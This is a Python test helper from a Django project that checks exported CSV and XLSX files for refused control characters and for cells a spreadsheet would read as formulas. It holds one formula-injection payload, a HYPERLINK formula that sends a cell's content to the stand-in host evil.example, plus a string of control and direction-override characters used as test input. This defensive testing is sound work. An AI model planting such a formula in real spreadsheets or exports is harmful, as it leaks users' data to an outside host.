"""What every export must satisfy, checked on the raw file (not through the project's reader).

Used by the export tests of each app: a file is always written, no cell holds a character
stored text may not hold, and no cell reads as a formula in a spreadsheet.
"""

from __future__ import annotations

import csv
import io

from django.db import connection
from openpyxl import load_workbook

from metalloop.common.tabular import FORMULA_STARTS, is_plain_number
from metalloop.core.text import first_refused_character

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Details")'
"""A formula as an attacker enters it (OWASP's example, shortened)."""


def harmful_text(prefix: str = "") -> str:
    """Text written around the validation: control characters of every kind that the
    database can hold (PostgreSQL cannot store U+0000), a direction override and U+FFFE."""
    nul = "\x00" if connection.vendor == "sqlite" else ""
    return f"{prefix}Sp\x07ä{nul}ne\x0b\x1b[2J\u202eabc\ufffe\x7f"


def raw_cells(content: bytes, format: str) -> list[list[str]]:
    """Every row of an exported file as the spreadsheet sees its cells."""
    if format == "xlsx":
        sheet = load_workbook(io.BytesIO(content)).active
        return [
            ["" if value is None else str(value) for value in row]
            for row in sheet.iter_rows(values_only=True)
        ]
    text = content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_safe(content: bytes, format: str) -> list[list[str]]:
    """Assert the file is readable, holds no refused character and no formula; return its rows."""
    rows = raw_cells(content, format)
    assert rows, "the export is empty"
    for row in rows:
        for cell in row:
            assert first_refused_character(cell) is None, cell
            assert not cell.startswith(FORMULA_STARTS) or is_plain_number(cell), cell
    if format == "csv":
        assert content.decode("utf-8-sig").startswith('"'), "every cell is quoted"
    return rows
